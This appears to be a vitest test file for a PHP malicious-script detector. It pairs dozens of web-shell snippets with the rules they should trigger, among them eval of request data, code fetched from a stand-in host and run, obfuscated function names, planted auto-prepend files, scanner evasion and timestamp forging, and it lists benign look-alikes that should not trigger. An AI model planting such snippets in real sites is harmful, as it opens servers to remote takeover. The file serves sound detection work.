import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

const OPEN = ['<', '?php '].join('');
const RUN = ['ev', 'al'].join('');
const POST = ['$_P', 'OST'].join('');
const GET = ['$_G', 'ET'].join('');
const SHELL = ['sys', 'tem'].join('');

function rules(code: string): string[] {
  return judge(followFlow(OPEN + code)).map((verdict) => `${verdict.rule} ${verdict.severity}`);
}

describe('what planted scripts do', () => {
  it.each([
    ['run a remote answer', `${RUN}(file_get_contents('http://a.example.test/x'));`, 'php.remote-to-code critical'],
    [
      'go where another server says and store any upload',
      `include 'config.php'; $a = file_get_contents('http://a.example.test/?' . ${GET}['q']); header("Location: $a"); move_uploaded_file($_FILES['a']['tmp_name'], $_FILES['a']['name']);`,
      'php.suspicious-together high',
    ],
    ['include an upload', `include $_FILES['f']['tmp_name'];`, 'php.request-include critical'],
    ['run a header', 'passthru(getenv("HTTP_ACCEPT_LANGUAGE"));', 'php.request-to-command critical'],
    [
      'run an encoded text',
      `${RUN}(gzinflate(base64_decode('AAAA')).base64_decode('ZWNobyAxOw=='));`,
      'php.hidden-code high',
    ],
    ['spell a name by XOR', `$f = ('!' ^ '@') . ('3' ^ '@') . 'sert'; $f(1);`, 'php.hidden-name high'],
    [
      'jump about',
      `goto a; b: ${RUN}(${POST}[1]); goto c; a: if (!${POST}) { goto c; } goto b; c: echo 1;`,
      'php.request-to-code critical',
    ],
    [
      'wait in a destructor',
      `class A { public $x; function __destruct() { ${RUN}($this->x); } } $a = new A; $a->x = ${POST}['x'];`,
      'php.request-to-code critical',
    ],
    [
      'call through reflection',
      `$r = new ReflectionFunction('system'); $r->invoke(${GET}['a']);`,
      'php.request-to-command critical',
    ],
    [
      'use a filter as a callback',
      `filter_var(${POST}['a'], FILTER_CALLBACK, array('options' => 'assert'));`,
      'php.callback-to-code high',
    ],
    [
      'run in a function without a name that somebody else calls',
      `add_action('init', function () { ${RUN}(${POST}['a']); });`,
      'php.request-to-code critical',
    ],
    [
      'run what another server sends, in a hook',
      `$at = 'http://a.example.test/'; add_action('init', function () use ($at) { $r = wp_remote_get($at); ${RUN}(wp_remote_retrieve_body($r)); });`,
      'php.remote-to-code critical',
    ],
    [
      'run a parameter of a route',
      `function go($r) { return shell_exec($r->get_param('c')); }`,
      'php.request-to-command critical',
    ],
    [
      'call by reflection what the visitor names',
      `(new ReflectionMethod(${POST}['c'], 'm'))->invoke(null, ${POST}['a']);`,
      'php.request-chooses-call critical',
    ],
    [
      'filter the input by a callback',
      `filter_input(INPUT_POST, 'a', FILTER_CALLBACK, array('options' => 'assert'));`,
      'php.callback-to-code high',
    ],
    [
      'copy the body of a request to any file',
      `$o = fopen(${POST}['p'], 'w'); stream_copy_to_stream(fopen('php://input', 'r'), $o);`,
      'php.request-to-file high',
    ],
    [
      'call a function that cookies name in pieces',
      `$c = $_COOKIE; ($c && isset($c[0])) ? (($d = $c[0] . $c[1]) && $d($c[2])) : 0;`,
      'php.request-chooses-call critical',
    ],
    [
      'fetch a script by a command',
      `exec('wget -O inert.php http://a.example.test/a.txt');`,
      'php.attack-command high',
    ],
    ['include what a visitor wrote into a log of the kernel', `include '/proc/self/environ';`, 'php.odd-include high'],
    ['include from a share of another machine', `include '\\\\\\\\192.0.2.1\\\\s\\\\a.php';`, 'php.odd-include high'],
    [
      'make code of nothing by filters',
      `include 'php://filter/convert.iconv.UTF8.UTF7/resource=php://temp';`,
      'php.odd-include high',
    ],
    [
      'run the body of each request first',
      `ini_set('auto_prepend_file', 'php://input');`,
      'php.sets-prepended-file high',
    ],
    [
      'keep it in a field that the constructor declares',
      `class A { public function __construct(private readonly string $c) {} function __invoke() { ${RUN}($this->c); } } (new A(${POST}['a']))();`,
      'php.request-to-code critical',
    ],
    ['make variables of the request', `extract(${POST}); $a($b);`, 'php.request-chooses-call critical'],
    [
      'store any upload',
      `move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`,
      'php.open-upload high',
    ],
    ['write any file', `$h = fopen(${POST}['p'], 'w'); fwrite($h, ${POST}['c']);`, 'php.request-to-file high'],
    ['mail anything to anybody', `mail(${POST}['to'], ${POST}['s'], ${POST}['m']);`, 'php.open-mailer high'],
    [
      'show what another server says of the visitor',
      `echo file_get_contents('http://a.example.test/?h=' . $_SERVER['HTTP_HOST']);`,
      'php.remote-output high',
    ],
    [
      'forge times',
      `$t = filemtime('index.php'); file_put_contents('a.txt', 'x'); touch('index.php', $t);`,
      'php.forges-times high',
    ],
    [
      'turn scanners away',
      `foreach (array('phishtank', 'netcraft', 'a', 'b', 'c') as $w) { if (strpos($_SERVER['HTTP_USER_AGENT'], $w)) die; }`,
      'php.turns-away-scanners high',
    ],
    [
      'try every runner',
      `function r($c) { if (function_exists('system')) system($c); elseif (1 > $x) exec($c); else passthru($c); } r($argv[1]);`,
      'php.every-runner high',
    ],
    [
      'write settings of a folder that run a picture first',
      `file_put_contents('.user.ini', 'auto_prepend_file=inert.jpg');`,
      'php.plants-script high',
    ],
    [
      'run what a pattern takes from the request',
      `preg_replace('/([0-9]+)(.*)/e', 'run("$2")', ${POST}['a']);`,
      'php.request-to-code critical',
    ],
    [
      'run what a pattern takes from the request within double quotes',
      `preg_replace('/(.*)/e', 'strtolower("\\\\1")', ${POST}['a']);`,
      'php.request-to-code critical',
    ],
    [
      'run it within double quotes that hold single ones',
      `preg_replace('/(.*)/e', 'strtolower("\\'\\\\1\\'")', ${POST}['a']);`,
      'php.request-to-code critical',
    ],
    [
      'send a folder that asks for a password elsewhere',
      `file_put_contents('.htaccess', "AuthUserFile $d\\nAuthType Basic\\nRewriteRule (.*) inert.php");`,
      'php.rewrites-site high',
    ],
    [
      'show what a service that the visitor names answers',
      `echo file_get_contents('https://' . ${POST}['h'] . '/a.txt');`,
      'php.remote-output high',
    ],
    [
      'show what a service answers about the site',
      `echo file_get_contents('https://a.example.test/?h=' . $_SERVER['HTTP_HOST']);`,
      'php.remote-output high',
    ],
    ['run a header as it is', `${RUN}($_SERVER['HTTP_USER_AGENT']);`, 'php.header-to-code critical'],
    ['include the member of an archive', `include 'zip://a.jpg#b';`, 'php.odd-include high'],
    ['include a session', `include '/tmp/sess_' . $_COOKIE['s'];`, 'php.request-include high'],
    [
      'call any function by a magic method',
      `class M { static function __callStatic($n, $a) { return call_user_func_array(strtolower($n), $a); } } M::${SHELL.toUpperCase()}(${GET}['c']);`,
      'php.request-to-command critical',
    ],
    ['include a picture', `include 'images/logo.ico';`, 'php.odd-include high'],
    ['include a picture beside itself', `@include __DIR__ . '/../uploads/logo.ico';`, 'php.odd-include high'],
    ['include out of /tmp', `include '/tmp/.s';`, 'php.odd-include high'],
    ['include out of shared memory', `@include_once '/dev/shm/cache.php';`, 'php.odd-include high'],
    [
      'load what another server gives',
      `$f = '/tmp/a1'; file_put_contents($f, file_get_contents('https://a.example.test/b.txt')); include $f;`,
      'php.plants-and-runs high',
    ],
    [
      'filter by a function that the visitor names',
      `filter_var(${GET}['x'], FILTER_CALLBACK, ['options' => ${GET}['f']]);`,
      'php.request-chooses-call critical',
    ],
    [
      'filter several fields by it',
      `filter_input_array(INPUT_GET, ['x' => ['filter' => FILTER_CALLBACK, 'options' => ${GET}['f']]]);`,
      'php.request-chooses-call critical',
    ],
    ['plant and run', `file_put_contents('c.html', ${GET}['x']); require 'c.html';`, 'php.plants-and-runs high'],
    [
      'work on any file',
      `if (${GET}['d']) unlink(${GET}['d']); echo file_get_contents(${GET}['f']); $h = opendir(${GET}['x']);`,
      'php.file-manager high',
    ],
  ])('%s', (_, code, rule) => {
    expect(rules(code)).toContain(rule);
  });
});

describe('what honest scripts do', () => {
  it.each([
    ['mail a contact form to themselves', `mail('info@example.test', 'Contact', ${POST}['message']);`],
    [
      'run a template',
      `function render($file, $vars) { extract($vars); ob_start(); include $file; return ob_get_clean(); }`,
    ],
    ['call an allowed action', `$actions = array('list' => 'show_list'); $f = $actions[${GET}['a']]; $f();`],
    ['put an icon of markup into a page', `include __DIR__ . '/icons/menu.svg';`],
    ['keep templates in a folder of their own', `include sys_get_temp_dir() . '/inert/' . md5($name) . '.php';`],
    ['quote an argument', `exec('convert ' . escapeshellarg(${GET}['f']));`],
    ['quote an argument by a function of their own', `exec(TOOL . ' ' . quoteshellarg(${GET}['f']));`],
    [
      'check before they store',
      `if (current_user_can('upload')) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);`,
    ],
    [
      'answer by a magic method',
      `class M { static function __callStatic($n, $a) { return self::find($n, $a); } } echo M::posts(${GET}['id']);`,
    ],
    [
      'load words of a language that a list which is uploaded names',
      `$rows = file_get_contents($_FILES['f']['tmp_name']); foreach (explode("\n", $rows) as $name) { $old = require $this->folder . '/' . $name . '.php'; }`,
    ],
    ['go where a link of their own leads', `header('Location: ' . urldecode(${GET}['back'])); exit;`],
    ['name a file that runs first', `ini_set('auto_prepend_file', '/srv/site/waf.php');`],
    ['fetch a page by a command', `exec('wget -O /tmp/page.html http://a.example.test/');`],
    ['run their own archive', `include 'phar://' . __DIR__ . '/tool.phar/run.php'; include 'phar://tool.phar/a.php';`],
    ['assert a fact', 'assert($a instanceof B);'],
    [
      'spell the call of a method of their own',
      `class A { function go() { ${RUN}('self::' . ${GET}['do'] . '();'); } }`,
    ],
    [
      'unpack a guarded import by a name that crude scanners do not see',
      `add_action('a', function () { current_user_can('b') || die; $f = 'gz' . strrev('etalfni'); $s = $f(get_it()); update_option('c', $s); unlink(d()); });`,
    ],
    ['ask a route for its parameter', `function go($r) { return find_post($r->get_param('id')); }`],
    ['make an object of a class of theirs', `$c = new ReflectionClass('Shop'); $c->newInstance(${POST}['id']);`],
    ['filter a number', `$n = filter_input(INPUT_POST, 'n', FILTER_VALIDATE_INT); show($n);`],
    ['copy one stream to another', `stream_copy_to_stream(fopen('a.csv', 'r'), fopen('php://output', 'w'));`],
    [
      'show in a hook what another server says',
      `add_action('wp_footer', function () { echo wp_remote_retrieve_body(wp_remote_get('http://a.example.test/news')); });`,
    ],
    ['unpack an icon', "header('Content-Type: image/gif'); echo base64_decode('R0lGODlhAQABAAAAACw=');"],
    [
      'let the visitor name a method of an object of theirs',
      `require 'a.php'; $d = json_decode(html_entity_decode(${POST}['d'])); $m = $d['m']; $list = new Search; echo $list->$m($d);`,
    ],
    [
      'are text over many lines in a script for browsers',
      '/* made by a tool */ `;\nfunction load(name) { const url = `${base}/\n${name}`; }',
    ],
    [
      'fill a form into the settings that they read',
      `$c = file_get_contents('wp-config.php'); $c = preg_replace(array('/NAME/'), array(${POST}['db']), $c); file_put_contents('wp-config.php', $c);`,
    ],
    [
      'ask the database that the visitor named a fixed question',
      `$c = mysqli_connect(${POST}['host']); mysqli_query($c, $question); unlink('a.sql'); chmod($a, 0644);`,
    ],
    [
      'are a phar that unpacks itself where it must',
      `if (class_exists('Phar')) { include 'phar://' . __FILE__ . '/a.php'; } $f = fopen(__FILE__, 'rb'); $d = gzinflate(fread($f, 9)); file_put_contents('/tmp/x/a.php', $d); include '/tmp/x/a.php';`,
    ],
    [
      'check a field by an expression that another file of theirs gives',
      `require_once 'a.php'; function check($field, $e) { foreach (${POST}[$field] as $k => $v) { if (!preg_match('/^[a-z]+$/', $k)) return false; } return ${RUN}('return (' . str_replace('{}', $k, $e) . ') ? 1 : 0;'); }`,
    ],
    [
      'pass on what a service of this machine answers',
      `$c = curl_init('http://localhost/rest.php'); curl_setopt($c, CURLOPT_POSTFIELDS, ${POST}); $r = curl_exec($c); header($r); echo $r;`,
    ],
    [
      'put numbers of an address into a template of theirs',
      `$url = preg_replace('/%%cv([0-9]+)%%/ei', 'urlencode($list[$1])', ${POST}['url']); echo $url;`,
    ],
    [
      'put a number of a text into quotes',
      `echo preg_replace('/:icon_((e\\d+)|(_\\d+_\\d)):/e', 'icon("\\1", -1)', ${POST}['text']);`,
    ],
    [
      'put what a pattern finds into quotes that cannot be left',
      `echo preg_replace('#(>(.*)<)#se', "preg_replace(\\$words, \\$others, '\\\\0')", '>' . ${POST}['text'] . '<');`,
    ],
    [
      'write the scheme of an address in small letters',
      `echo preg_replace('~^[a-z]+~ie', "strtolower('\\\\0')", ${POST}['url']);`,
    ],
    [
      'ask for a password in a folder of theirs',
      `file_put_contents('.htaccess', "AuthUserFile $d/.htpasswd\\nAuthType Basic\\nRequire valid-user");`,
    ],
    [
      'show what a service that is named answers to a form',
      `$c = curl_init('https://api.example.test/users'); curl_setopt($c, CURLOPT_POSTFIELDS, ${POST}); echo curl_exec($c); echo file_get_contents('https://api.example.test/users?q=' . ${POST}['q']);`,
    ],
    [
      'run the template of a message that names the address of a visitor',
      `require_once './global.php'; ${RUN}(standard_error(fetch_error('shown', gethostbyaddr($_SERVER['REMOTE_ADDR']))));`,
    ],
    [
      'ask for a number within bounds',
      `$page = filter_var(${POST}['page'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1, 'default' => ${POST}['first']]]);`,
    ],
    ['filter by a function of theirs', `echo filter_input(INPUT_GET, 'x', FILTER_CALLBACK, ['options' => 'trim']);`],
    [
      'stand for a page of another server, and go where that one says',
      `include 'config.php'; $a = file_get_contents('http://a.example.test/?' . ${GET}['q']); if ($a[0] === 'h') header("Location: $a"); echo $a;`,
    ],
    ['fetch a feed', "$feed = simplexml_load_string(file_get_contents('https://example.test/feed'));"],
  ])('%s', (_, code) => {
    expect(rules(code).filter((rule) => !rule.endsWith(' low') && !rule.endsWith(' medium'))).toEqual([]);
  });
});

describe('the way of writing', () => {
  const grave = (code: string): string[] =>
    judge(followFlow(OPEN + code), 5, true)
      .filter(({ severity }) => severity === 'high')
      .map(({ rule }) => rule);

  it('accuses what does something', () => {
    expect(grave(`$h = fopen($a, 'w'); fwrite($h, $b);`)).toContain('php.resembles-planted');
    expect(grave(`$f = $a . $b; $f(${GET}['x']);`)).toContain('php.resembles-planted');
  });

  it('says nothing as long as it is only a little like that of planted files', () => {
    const rulesAt = (resemblance: number): string[] =>
      judge(followFlow(`${OPEN}echo strlen($a);`), resemblance).map(({ rule }) => rule);
    expect(rulesAt(1.9)).toEqual([]);
    expect(rulesAt(2.1)).toEqual(['php.resembles-planted']);
  });

  it('takes tools for a command line for more', () => {
    const rulesAt = (resemblance: number): string[] =>
      judge(followFlow(`${OPEN}$p = fopen('php://stdin', 'r'); echo fgets($p), $argv[1];`), resemblance).map(
        ({ rule }) => rule,
      );
    expect(rulesAt(3.9)).toEqual([]);
    expect(rulesAt(4.1)).toEqual(['php.resembles-planted']);
  });

  it.each([
    ['only lends functions', `function pack($to, $b) { $h = fopen($to, 'w'); fwrite($h, $b); }`],
    ['only lends classes', `class A { function pack($to, $b) { $h = fopen($to, 'w'); fwrite($h, $b); } }`],
    ['calls a variable that nobody set, with nothing', '$oops();'],
    ['makes an object of a class that only its caller names', '$made = new $class($code, $mode);'],
  ])('accuses no file that %s', (_, code) => {
    expect(grave(code)).toEqual([]);
  });
});
